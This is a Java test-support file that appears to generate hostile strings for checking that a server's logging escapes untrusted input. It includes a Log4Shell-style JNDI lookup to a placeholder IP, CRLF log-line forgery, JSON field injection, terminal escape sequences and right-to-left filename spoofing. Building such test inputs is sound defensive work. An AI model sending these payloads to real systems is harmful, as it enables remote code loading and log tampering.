package io.portcullis.server.observe;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** What strangers may send to confuse whoever reads a log: chosen texts, and seeded random ones. */
final class NastyTexts {
    private static final long SEED = 20261122;
    private static final String LIKELY =
            "\"\\\r\n\t\u0000\u001b\u007f\u0085\u009b\u2028\u2029\u202e\u2066\u200f\ufeff\uD83D\uDE00 {}[]:,'ux/";

    private NastyTexts() {}

    static List<String> all() {
        List<String> texts = new ArrayList<>(List.of(
                "",
                "-",
                "null",
                "\n",
                "\r\n203.0.113.9 - - [22/Nov/2026:18:00:00 +0000] \"GET / HTTP/1.1\" 200 0 \"-\" \"-\"",
                "\",\"status\":200,\"x\":\"",
                "\\\",\\",
                "\\",
                "\\u000a",
                "\u001b]0;title\u0007\u001b[2J",
                "\u009b31m",
                "\u0085\u2028\u2029",
                "\u202etxt.exe\u2066\u2069\u200f\u061c",
                new String(new byte[] {(byte) 0xC0, (byte) 0xAF, (byte) 0xFF, (byte) 0xED, (byte) 0xA0}, ISO_8859_1),
                "\uD83D",
                "\uDE00x",
                "\uD83D\uDE00",
                "${jndi:ldap://192.0.2.1/a}",
                "%n%s{}{}"));
        Random random = new Random(SEED);
        for (int i = 0; i < 2_000; i++) {
            texts.add(random(random));
        }
        return texts;
    }

    /** Half a surrogate pair cannot be written in UTF-8, and is replaced. */
    static String asUtf8Has(String text) {
        return text.codePoints()
                .map(c -> c >= 0xD800 && c <= 0xDFFF ? 0xFFFD : c)
                .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
    }

    private static String random(Random random) {
        int length = random.nextInt(40);
        StringBuilder text = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            text.append(
                    switch (random.nextInt(3)) {
                        case 0 -> LIKELY.charAt(random.nextInt(LIKELY.length()));
                        case 1 -> (char) random.nextInt(0x100);
                        default -> (char) random.nextInt(0x10000);
                    });
        }
        return text.toString();
    }
}
